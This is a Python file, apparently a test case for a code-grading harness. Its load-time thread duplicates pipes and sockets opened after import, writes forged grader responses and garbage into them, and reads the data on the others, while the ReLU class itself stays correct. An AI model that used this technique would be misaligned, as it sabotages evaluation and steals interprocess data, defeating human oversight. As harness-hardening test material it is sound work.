"""A thread started at load: it lives in the process the class workers are forked from, and
for two minutes keeps it busy and meddles with every pipe or socket that appears there after
loading (the ends later class workers talk to the grader through): it keeps a copy of each,
writes forged answers ("raised", a wrong array) and garbage into the writable ones and steals
what it can read from the others. ReLU itself is correct: no class may lose a point."""

# ruff: noqa
# target: ReLU
import fcntl
import json
import os
import stat
import struct
import threading
import time


def _frame(body):
    header = json.dumps({"body": body, "buffers": []}).encode()
    return struct.pack("<I", len(header)) + header


_FORGED = (
    [_frame({"id": n, "raised": ["ValueError", "forged by a thread", ""]}) for n in range(1, 64)]
    + [_frame({"id": n, "ok": [[0.0]]}) for n in range(1, 64)]
    + [b"\xff" * 64]
)


def _meddle(at_load):
    held = []
    end = time.monotonic() + 120
    while time.monotonic() < end:
        try:
            names = os.listdir("/proc/self/fd")
        except OSError:
            names = []
        for name in names:
            if name in at_load:
                continue
            try:
                mode = os.fstat(int(name)).st_mode
                if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                    copy = os.dup(int(name))
                    os.set_blocking(copy, False)
                    held.append(copy)
            except OSError:
                pass
        for fd in list(held):
            try:
                writable = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY
                if writable:
                    for data in _FORGED:
                        os.write(fd, data)
                else:
                    os.read(fd, 65536)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                held.remove(fd)
                try:
                    os.close(fd)
                except OSError:
                    pass
        sum(range(20000))  # and keep the process busy


class _AtLoad:  # a class body runs when the definitions are loaded
    threading.Thread(target=_meddle, args=(set(os.listdir("/proc/self/fd")),), daemon=True).start()


class ReLU(ReLU):
    pass


# --- honest twin
class ReLU(ReLU):
    pass
